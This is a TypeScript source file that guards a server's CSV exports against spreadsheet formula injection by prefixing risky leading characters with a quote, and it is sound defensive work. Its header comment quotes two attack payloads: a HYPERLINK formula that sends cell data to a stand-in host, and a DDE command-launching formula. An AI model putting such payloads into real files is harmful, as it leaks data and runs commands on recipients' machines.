/**
 * Every CSV the system writes goes through here, so that no cell can carry a spreadsheet formula
 * (CSV injection, a.k.a. formula injection, CWE-1236): a survey answer such as
 * `=HYPERLINK("http://evil.example/?x="&A1,"click")` or `=cmd|' /C calc'!A0`, a unit name or a
 * class label, would otherwise run as a formula when the secretariat opens the file in Excel,
 * LibreOffice Calc or Google Sheets.
 *
 * The rule (OWASP, https://owasp.org/www-community/attacks/CSV_Injection): a text cell whose first
 * character is `=`, `+`, `-`, `@`, a tab (0x09) or a carriage return (0x0D) is prefixed with a
 * single quote `'`, which spreadsheets read as "this cell is text" (it stays visible to plain-text
 * readers). OWASP ASVS 5.0 requirement 1.2.10 adds the null character (0x00), which is covered
 * too. Nothing else is changed (no other leading characters: neither OWASP text names any).
 *
 * One exception keeps numeric columns machine-readable: a cell that is a plain decimal number —
 * an optional sign, digits, optionally a point and digits (`-2.5`, `+3`, `-0.75`, `-1.25`) — is
 * left alone; a spreadsheet reads it as that number and nothing more. `-2+3`, `+1+1`, `-1e3`,
 * `-2.5 ` are not plain numbers and are neutralised.
 *
 * The other half of OWASP's advice (a separator or quote inside a value must not start a new cell)
 * is csv-stringify's quoting: a value holding `,`, `"`, CR or LF is always quoted.
 *
 * XLSX exports need no prefix: ExcelJS writes a JavaScript string as a string cell (shared or
 * inline string), which Excel never evaluates; only a `{ formula }` value makes a formula, and no
 * writer passes one (see apps/server/src/http/export-injection.int.test.ts).
 */
import { type Options, stringify } from 'csv-stringify/sync';

/** Characters that make a spreadsheet read a cell as a formula when they come first. */
const FORMULA_START = /^[=+\-@\t\r\0]/;
/** A plain decimal number: optional sign, digits, optional fraction. No exponent, no spaces. */
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/** The cell as it may be written to a CSV: prefixed with `'` when it could start a formula (see the file comment). */
export function csvSafe(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/**
 * csv-stringify `cast` that applies `csvSafe` to every cell, whatever its type: strings, numbers
 * (a number prints as a plain number and stays; `-Infinity` would not), and objects (JSON).
 */
export const CSV_SAFE_CAST: NonNullable<Options['cast']> = {
  string: (v) => csvSafe(v),
  number: (v) => csvSafe(String(v)),
  bigint: (v) => csvSafe(String(v)),
  object: (v) => csvSafe(JSON.stringify(v)),
};

/** csv-stringify's `stringify` with every cell neutralised: the only way the server and the CLI write CSV. */
export function stringifyCsv(rows: unknown[][], options: Omit<Options, 'cast'> = {}): string {
  return stringify(rows, { ...options, cast: CSV_SAFE_CAST });
}
